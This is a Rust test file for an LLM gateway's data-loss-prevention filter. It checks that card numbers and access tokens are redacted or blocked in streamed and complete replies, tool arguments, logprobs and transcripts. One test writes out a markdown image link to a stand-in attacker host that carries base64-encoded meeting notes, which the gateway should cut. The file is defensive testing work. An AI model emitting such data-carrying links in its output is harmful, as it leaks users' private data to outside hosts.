//! Replies, whole and streamed: what must not reach the caller does not, however the engine cuts it up.

use std::time::Duration;

use serde_json::{Value, json};
use synapse_simulator::InterruptionKind;
use synapse_testkit::{Answer, Gateway, Script};

use super::{before_under, card, single_under, token};
use crate::start::{code, saying, with};

/// Events of a chat with these deltas of one choice, to its end.
pub(crate) fn events(deltas: &[Value]) -> String {
    let chunk = |delta: &Value, finish: Value| {
        let choice = json!({"index": 0, "delta": delta, "finish_reason": finish});
        format!("data: {}\n\n", json!({"id": "c", "object": "chat.completion.chunk", "choices": [choice]}))
    };
    let mut all: String = deltas.iter().map(|delta| chunk(delta, Value::Null)).collect();
    all += &chunk(&json!({}), "stop".into());
    all + "data: [DONE]\n\n"
}

/// What a caller got in all of the fields of one choice together.
pub(crate) fn received(answer: &synapse_testkit::Answer) -> String {
    let mut text = String::new();
    for chunk in answer.chunks() {
        let delta = &chunk["choices"][0]["delta"];
        let arguments = &delta["tool_calls"][0]["function"]["arguments"];
        for field in [&delta["content"], &delta["reasoning_content"], arguments] {
            text.push_str(field.as_str().unwrap_or_default());
        }
    }
    text
}

pub(crate) fn content(text: &str) -> Value {
    json!({"content": text})
}

pub(crate) fn reasoning(text: &str) -> Value {
    json!({"reasoning_content": text})
}

pub(crate) fn arguments(text: &str) -> Value {
    json!({"tool_calls": [{"index": 0, "function": {"arguments": text}}]})
}

/// A policy for replies alone.
pub(crate) fn for_replies(reply: Value) -> Value {
    json!({"base": "none", "reply": reply})
}

/// A gateway before an engine that says what it is told to.
pub(crate) async fn obedient(policy: Value) -> (Script, Gateway) {
    let script = Script::obeying().await;
    let gateway = before_under(&script, policy).await;
    (script, gateway)
}

/// What comes of these events.
pub(crate) async fn streamed(gateway: &Gateway, events: &str) -> Answer {
    let said = json!({"stream": true, "say": {"type": "text/event-stream", "body": events}});
    gateway.client().post("/v1/chat/completions", &with(saying("m", "hi"), said)).await
}

/// What comes of this JSON reply.
async fn replied(gateway: &Gateway, reply: &Value) -> Answer {
    let said = json!({"say": {"type": "application/json", "body": reply.to_string()}});
    gateway.client().post("/v1/chat/completions", &with(saying("m", "hi"), said)).await
}

#[tokio::test]
async fn a_value_split_at_any_byte_never_reaches_the_caller() {
    let (_script, gateway) = obedient(for_replies(json!({"*": "redact"}))).await;
    for value in [card(), token()] {
        let text = format!("it is {value} as you know");
        for delta in [content as fn(&str) -> Value, reasoning, arguments] {
            for cut in 0..=text.len() {
                let (head, tail) = text.split_at(cut);
                let answer = streamed(&gateway, &events(&[delta("so, "), delta(head), delta(tail)])).await;
                let got = received(&answer);
                assert!(answer.is_done() && got.starts_with("so, it is [REDACTED:"), "{cut}: {got}");
                assert!(got.ends_with("] as you know"), "{cut}: {got}");
                let leaked = value
                    .as_bytes()
                    .windows(6)
                    .any(|part| answer.body.windows(6).any(|window| window == part));
                assert!(!leaked, "{cut}: {}", answer.text());
            }
        }
    }
}

#[tokio::test]
async fn a_value_that_comes_byte_by_byte_never_reaches_the_caller() {
    let (_script, gateway) = obedient(for_replies(json!({"*": "redact"}))).await;
    let text = format!("it is {} as you know, and {} too", card(), token());
    for delta in [content as fn(&str) -> Value, reasoning, arguments] {
        let deltas: Vec<Value> = text.chars().map(|c| delta(&c.to_string())).collect();
        let answer = streamed(&gateway, &events(&deltas)).await;
        let got = received(&answer);
        let want = "it is [REDACTED:credit_card_visa] as you know, and [REDACTED:gitlab-pat] too";
        assert_eq!(got, want);
    }
}

#[tokio::test]
async fn texts_of_several_choices_and_tools_are_told_apart() {
    let (_script, gateway) = obedient(for_replies(json!({"*": "redact"}))).await;
    let (head, tail) = (&card()[..8], &card()[8..]);
    let chunk = |choices: Value| format!("data: {}\n\n", json!({"choices": choices}));
    let delta = |index: u32, text: &str| json!({"index": index, "delta": {"content": text}});
    let finish = |index: u32| json!({"index": index, "delta": {}, "finish_reason": "stop"});
    let all = [
        chunk(json!([delta(0, head)])),
        chunk(json!([delta(1, "fine "), {"delta": {"content": "x "}, "index": 2}])),
        chunk(json!([delta(0, tail), delta(1, "words")])),
        chunk(json!([finish(0)])),
        chunk(json!([finish(1), finish(2)])),
        "data: [DONE]\n\n".to_owned(),
    ];
    let said = json!({"n": 3, "stream": true, "say": {"body": all.concat()}});
    let answer = gateway.client().post("/v1/chat/completions", &with(saying("m", "hi"), said)).await;
    let mut texts = [const { String::new() }; 3];
    for chunk in answer.chunks() {
        for choice in chunk["choices"].as_array().expect("choices") {
            let index = choice["index"].as_u64().expect("an index") as usize;
            texts[index].push_str(choice["delta"]["content"].as_str().unwrap_or_default());
        }
    }
    assert_eq!(texts, ["[REDACTED:credit_card_visa]", "fine words", "x "]);
    assert!(answer.is_done());
}

#[tokio::test]
async fn a_plain_reply_is_searched_in_every_text() {
    let (_script, gateway) = obedient(for_replies(json!({"*": "redact"}))).await;
    let text = format!("it is {}.", card());
    let call = json!({"id": "c", "type": "function", "function": {"name": "f", "arguments": json!({"a": text}).to_string()}});
    let reply = json!({"id": "1", "object": "chat.completion", "choices": [
        {"index": 0, "message": {"role": "assistant", "content": text, "reasoning_content": text, "tool_calls": [call]},
         "logprobs": {"content": [{"token": text, "logprob": -0.1, "bytes": null, "top_logprobs": []}]}, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3}});
    let answer = replied(&gateway, &reply).await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    let json = answer.json();
    let message = &json["choices"][0]["message"];
    assert_eq!(message["content"], "it is [REDACTED:credit_card_visa].");
    assert_eq!(message["reasoning_content"], "it is [REDACTED:credit_card_visa].");
    let arguments = message["tool_calls"][0]["function"]["arguments"].as_str().expect("a text");
    assert_eq!(arguments, r#"{"a":"it is [REDACTED:credit_card_visa]."}"#);
    assert_eq!((&json["choices"][0]["logprobs"], &json["usage"]["total_tokens"]), (&Value::Null, &3.into()));
    assert!(!answer.text().contains(&card()));
}

#[tokio::test]
async fn probabilities_go_with_the_text_that_they_repeat() {
    let (_script, gateway) = obedient(for_replies(json!({"*": "redact"}))).await;
    let chunk = |text: &str| {
        let entry = json!({"token": text, "logprob": -0.1, "bytes": text.as_bytes(), "top_logprobs": []});
        let choice = json!({"index": 0, "delta": {"content": text}, "logprobs": {"content": [entry]}});
        format!("data: {}\n\n", json!({"choices": [choice]}))
    };
    let (head, tail) = (&card()[..8], &card()[8..]);
    let all = ["it ", "is ", head, tail, " so"].map(chunk).concat();
    let end =
        "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n";
    let answer = streamed(&gateway, &(all + end)).await;
    assert_eq!(answer.content(), "it is [REDACTED:credit_card_visa] so");
    assert!(!answer.text().contains(head) && !answer.text().contains(tail), "{}", answer.text());
    assert!(answer.text().contains(r#""token":"it ""#), "what was not changed keeps them: {}", answer.text());
}

#[tokio::test]
async fn what_is_blocked_ends_the_engines_work() {
    let word = "the";
    let policy = json!({"base": "none", "reply": {"custom:word": "block"}, "rules": [{"name": "word", "words": [word]}]});
    let (engine, gateway) = single_under(policy).await;
    engine.update(|behaviour| (behaviour.tokens, behaviour.itl) = (100_000, Duration::from_millis(1)));
    let answer = gateway.client().stream("m").await;
    assert_eq!(answer.broken_by(), "dlp_response_blocked", "{}", answer.text());
    let last = answer.chunks().pop().expect("an event");
    assert!(
        last["error"]["incident_id"].is_string() && last["error"]["findings"][0]["category"] == "custom:word",
        "{last}"
    );
    engine.until(|counters| counters.aborted >= 1).await;
}

#[tokio::test]
async fn a_blocked_reply_is_never_a_complete_one() {
    let (_script, gateway) = obedient(for_replies(json!({"*": "block"}))).await;
    let text = format!("it is {} as you know", card());
    let answer = streamed(&gateway, &events(&[content("well, "), content(&text), content("more")])).await;
    // Nothing had gone out when it was found.
    assert_eq!(code(&answer), (400, "dlp_response_blocked".to_owned()));
    assert!(!answer.text().contains(&card()[..6]), "{}", answer.text());
    let reply = json!({"choices": [{"index": 0, "message": {"content": text}, "finish_reason": "stop"}]});
    let answer = replied(&gateway, &reply).await;
    assert_eq!(code(&answer), (400, "dlp_response_blocked".to_owned()));
    assert!(answer.json()["error"]["incident_id"].is_string() && !answer.text().contains(&card()[..6]));
    let lines = gateway.logs().accesses_reach(2).await;
    assert!(
        lines.iter().all(|line| line["outcome"] == "blocked" && line["incident"].is_string()),
        "{lines:?}"
    );
}

#[tokio::test]
async fn a_stream_in_which_nothing_is_found_keeps_its_bytes() {
    let (_script, gateway) = obedient(for_replies(json!({"*": "redact"}))).await;
    let deltas: Vec<Value> = "The quick brown fox jumps over the lazy dog, twice in 2026."
        .split_inclusive(' ')
        .map(content)
        .collect();
    let said = events(&deltas);
    assert_eq!(streamed(&gateway, &said).await.text(), said);
}

#[tokio::test]
async fn a_policy_that_only_tells_changes_nothing() {
    let (_script, gateway) = obedient(for_replies(json!({"*": "alert"}))).await;
    let said = events(&[content("it is "), content(&card())]);
    assert_eq!(streamed(&gateway, &said).await.text(), said);
    let labels = [("action", "alert"), ("direction", "reply"), ("category", "credit_card_visa")];
    gateway.metric("synapse_dlp_findings_total", &labels, |count| count == 1.0).await;
}

#[tokio::test]
async fn a_broken_stream_says_what_it_has_and_that_it_broke() {
    let (engine, gateway) = single_under(for_replies(json!({"*": "redact"}))).await;
    engine.set(engine.behaviour().interrupted(4, InterruptionKind::Eof));
    let answer = gateway.client().stream("m").await;
    assert_eq!((answer.broken_by().as_str(), answer.is_done()), ("upstream_truncated", false));
    assert_eq!(
        answer.chunks().iter().filter(|chunk| chunk["choices"][0]["delta"]["content"].is_string()).count(),
        4
    );
}

#[tokio::test]
async fn named_values_come_back_in_the_reply() {
    let script = Script::obeying().await;
    let policy = json!({"base": "none", "prompt": {"payment_card": "redact"}, "placeholder": "tokenise"});
    let gateway = before_under(&script, policy).await;
    let ask = format!("my card is {}", card());
    let name = "[CREDIT_CARD_VISA_1]";
    let reply = json!({"choices": [{"index": 0, "message": {"content": format!("so {name}, and {name}")}, "finish_reason": "stop"}]});
    let said = json!({"say": {"type": "application/json", "body": reply.to_string()}});
    let answer = gateway.client().post("/v1/chat/completions", &with(saying("m", &ask), said)).await;
    assert_eq!(answer.content(), format!("so {0}, and {0}", card()));
    for cut in 0..name.len() {
        let (head, tail) = name.split_at(cut);
        let said = events(&[content("so "), content(head), content(tail), content(" [x] it is")]);
        let said = json!({"stream": true, "say": {"body": said}});
        let answer = gateway.client().post("/v1/chat/completions", &with(saying("m", &ask), said)).await;
        assert_eq!(answer.content(), format!("so {} [x] it is", card()), "{cut}");
    }
}

#[tokio::test]
async fn values_come_back_as_json_in_arguments_and_not_at_all_in_links() {
    let script = Script::obeying().await;
    let rules = json!([{"name": "site", "words": ["the \"old\" mill"]}]);
    let policy = json!({"base": "none", "prompt": {"custom:site": "redact"}, "placeholder": "tokenise", "rules": rules});
    let gateway = before_under(&script, policy).await;
    let link = "see https://example.net/?d=[CUSTOM_SITE_1] or [CUSTOM_SITE_1]";
    let ask = saying("m", "what of the \"old\" mill");
    let call = |arguments: &str| json!({"function": {"name": "f", "arguments": arguments}, "index": 0});
    let message = json!({"content": link, "tool_calls": [call("{\"at\":\"[CUSTOM_SITE_1]\"}")]});
    let reply = json!({"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]});
    let said = json!({"say": {"type": "application/json", "body": reply.to_string()}});
    let answer = gateway.client().post("/v1/chat/completions", &with(ask.clone(), said)).await;
    let message = &answer.json()["choices"][0]["message"];
    let seen = "see https://example.net/?d=[CUSTOM_SITE_1] or the \"old\" mill";
    let called: Value =
        serde_json::from_str(message["tool_calls"][0]["function"]["arguments"].as_str().expect("them"))
            .expect("arguments in JSON");
    assert_eq!((&message["content"], &called), (&json!(seen), &json!({"at": "the \"old\" mill"})));
    let pieces =
        [content("see https://exa"), content("mple.net/?d=[CUSTOM_SI"), content("TE_1] or [CUSTOM_SITE_1]")];
    let calls = [arguments("{\"at\":\"[CUSTOM_SI"), arguments("TE_1]\"}")];
    for (deltas, seen) in
        [(&pieces[..], seen.to_owned()), (&calls[..], json!({"at": "the \"old\" mill"}).to_string())]
    {
        let said = json!({"stream": true, "say": {"body": events(deltas)}});
        let answer = gateway.client().post("/v1/chat/completions", &with(ask.clone(), said)).await;
        assert_eq!(received(&answer), seen);
    }
}

#[tokio::test]
async fn links_that_carry_data_away_are_cut() {
    let script = Script::obeying().await;
    let policy = json!({"base": "on_prem", "allowed_hosts": ["docs.example.com"]});
    let gateway = before_under(&script, policy).await;
    let data = "c2VjcmV0IG5vdGVzIG9mIHRoZSBtZWV0aW5n";
    let text =
        format!("![x](https://evil.example.net/p?d={data}) and [y](https://docs.example.com/p?d={data}) ok");
    let answer = streamed(&gateway, &events(&[content(&text[..40]), content(&text[40..])])).await;
    let got = answer.content();
    assert!(got.contains("[REDACTED:url_exfiltration]") && !got.contains("evil.example.net"), "{got}");
    assert!(got.contains("docs.example.com/p?d=") && got.ends_with(" ok"), "{got}");
}

#[tokio::test]
async fn a_response_of_the_responses_api_is_searched_as_it_streams() {
    let (_script, gateway) = obedient(for_replies(json!({"*": "redact"}))).await;
    let (head, tail) = (format!("it is {}", &card()[..9]), format!("{} ok", &card()[9..]));
    let whole = format!("{head}{tail}");
    let event = |kind: &str, mut data: Value| {
        data["type"] = kind.into();
        format!("event: {kind}\ndata: {data}\n\n")
    };
    let delta = |text: &str| {
        event(
            "response.output_text.delta",
            json!({"item_id": "i", "output_index": 0, "content_index": 0, "delta": text}),
        )
    };
    let all = [
        event("response.created", json!({"response": {"id": "r"}})),
        delta(&head),
        delta(&tail),
        event(
            "response.output_text.done",
            json!({"item_id": "i", "output_index": 0, "content_index": 0, "text": whole}),
        ),
        event(
            "response.completed",
            json!({"response": {"id": "r", "output": [{"content": [{"text": whole}]}], "usage": {"input_tokens": 1, "output_tokens": 2}}}),
        ),
    ];
    let body = json!({"model": "m", "input": "hi", "stream": true, "say": {"body": all.concat()}});
    let answer = gateway.client().post("/v1/responses", &body).await;
    let text: String =
        answer.chunks().iter().filter_map(|chunk| chunk["delta"].as_str().map(str::to_owned)).collect();
    assert_eq!(text, "it is [REDACTED:credit_card_visa] ok");
    assert!(
        !answer.text().contains(&card()[..9]) && !answer.text().contains(&card()[9..]),
        "{}",
        answer.text()
    );
    assert!(answer.text().contains("response.completed"), "{}", answer.text());
}

#[tokio::test]
async fn a_transcript_is_searched() {
    let script = Script::replying("text/plain", &format!("my card is {}", card())).await;
    let gateway = before_under(&script, for_replies(json!({"*": "redact"}))).await;
    let body = "--b\r\ncontent-disposition: form-data; name=\"model\"\r\n\r\nm\r\n--b--\r\n";
    let client = gateway.client().with("content-type", "multipart/form-data; boundary=b");
    let answer = client.send(client.request(hyper::Method::POST, "/v1/audio/transcriptions", body)).await;
    assert_eq!(answer.text(), "my card is [REDACTED:credit_card_visa]");
}

#[tokio::test]
async fn an_empty_finish_reason_ends_nothing() {
    let (_script, gateway) = obedient(for_replies(json!({"*": "redact"}))).await;
    let chunk = |text: &str, finish: &str| {
        let choice = json!({"index": 0, "delta": {"content": text}, "finish_reason": finish});
        format!("data: {}\n\n", json!({"choices": [choice]}))
    };
    let mut all: String =
        card().as_bytes().chunks(4).map(|part| chunk(&String::from_utf8_lossy(part), "")).collect();
    all += &chunk("", "stop");
    let answer = streamed(&gateway, &(all + "data: [DONE]\n\n")).await;
    assert_eq!(answer.content(), "[REDACTED:credit_card_visa]");
}

#[tokio::test]
async fn numbers_in_streamed_arguments_stay_json_when_they_are_disguised() {
    let (_script, gateway) = obedient(for_replies(json!({"*": "redact"}))).await;
    let whole = format!(r#"{{"card": {0}, "note": "it is, {0}"}}"#, card());
    for cut in 0..whole.len() {
        let (head, tail) = whole.split_at(cut);
        let answer = streamed(&gateway, &events(&[arguments(head), arguments(tail)])).await;
        let got: Value = serde_json::from_str(&received(&answer)).expect("JSON");
        let label = "[REDACTED:credit_card_visa]";
        assert_eq!(got, json!({"card": label, "note": format!("it is, {label}")}), "{cut}");
    }
}

#[tokio::test]
async fn blocked_replies_are_paid_for_and_say_nothing_of_the_engine() {
    let script = Script::obeying().await;
    let gateway = before_under(&script, for_replies(json!({"*": "block"}))).await;
    let reply = json!({"choices": [{"index": 0, "message": {"content": card()}, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 30, "completion_tokens": 12_000, "total_tokens": 12_030}});
    for _ in 0..8 {
        assert_eq!(code(&replied(&gateway, &reply).await), (400, "dlp_response_blocked".to_owned()));
    }
    let fine = json!({"choices": [{"index": 0, "message": {"content": "fine"}, "finish_reason": "stop"}]});
    assert_eq!(replied(&gateway, &fine).await.status, 200, "its breaker is closed");
    let lines = gateway.logs().accesses_reach(9).await;
    assert_eq!(lines[0]["output_tokens"], 12_000, "{}", lines[0]);
}

#[tokio::test]
async fn probabilities_of_responses_go_too() {
    let (_script, gateway) = obedient(for_replies(json!({"*": "redact"}))).await;
    let part =
        json!({"type": "output_text", "text": card(), "logprobs": [{"token": card(), "logprob": -0.1}]});
    let reply = json!({"id": "r", "output": [{"type": "message", "content": [part]}]});
    let said = json!({"say": {"type": "application/json", "body": reply.to_string()}});
    let answer =
        gateway.client().post("/v1/responses", &with(json!({"model": "m", "input": "hi"}), said)).await;
    assert_eq!(answer.status, 200);
    assert!(!answer.text().contains(&card()) && answer.json().get("choices").is_none(), "{}", answer.text());
}
